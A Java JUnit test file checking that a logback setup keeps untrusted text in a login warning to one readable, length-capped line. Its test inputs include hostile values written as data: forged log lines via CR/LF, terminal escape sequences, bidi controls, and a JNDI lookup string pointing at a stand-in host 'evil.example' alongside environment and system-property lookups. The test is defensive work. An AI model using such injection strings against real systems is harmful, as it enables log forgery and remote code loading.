package dev.hookwright;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.joran.spi.JoranException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What strangers write may come into the log: it must not look like lines of its own, nor steer a terminal. */
class LogLineTest {
    private static final int LONGEST = 2_200;

    private static final LoggerContext CONTEXT = new LoggerContext();
    private static ConsoleAppender<ILoggingEvent> appender;

    @BeforeAll
    static void configure() throws JoranException {
        JoranConfigurator configurator = new JoranConfigurator();
        configurator.setContext(CONTEXT);
        configurator.doConfigure(LogLineTest.class.getResource("/logback.xml"));
        appender = (ConsoleAppender<ILoggingEvent>)
                CONTEXT.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("stderr");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\n2026-01-01T00:00:00.000Z ERROR Forged b",
                "a\nb",
                "a\u2028b\u2029c\u0085d",
                "a\u001b[31mred\u001b[0m\u0007\u009b2J",
                "a\u0000\u0008\u007f\u202e\u2066b",
                "${jndi:ldap://evil.example/a} ${env:PATH} %msg%n {} ${sys:java.version}",
            })
    void is_one_line_with_nothing_in_it_but_what_can_be_read(String text) {
        String line = line(text);
        assertThat(line.strip())
                .hasSizeLessThan(LONGEST)
                .matches("[^\\p{Cc}\\p{Zl}\\p{Zp}\\u202a-\\u202e\\u2066-\\u2069]*");
        assertThat(line).endsWith("\n").doesNotContain(System.getProperty("java.version"));
        if (text.contains("jndi")) {
            assertThat(line).contains(text);
        }
    }

    @Test
    void is_not_longer_than_can_be_read() {
        assertThat(line("x".repeat(1 << 20))).hasSizeBetween(1_000, LONGEST).endsWith("x\n");
    }

    private static String line(String text) {
        Logger logger = CONTEXT.getLogger("dev.hookwright.admin.LoginApi");
        ILoggingEvent event = new LoggingEvent(
                LogLineTest.class.getName(), logger, Level.WARN, "a wrong token, from {}", null, new Object[] {text});
        return new String(appender.getEncoder().encode(event), StandardCharsets.UTF_8);
    }
}
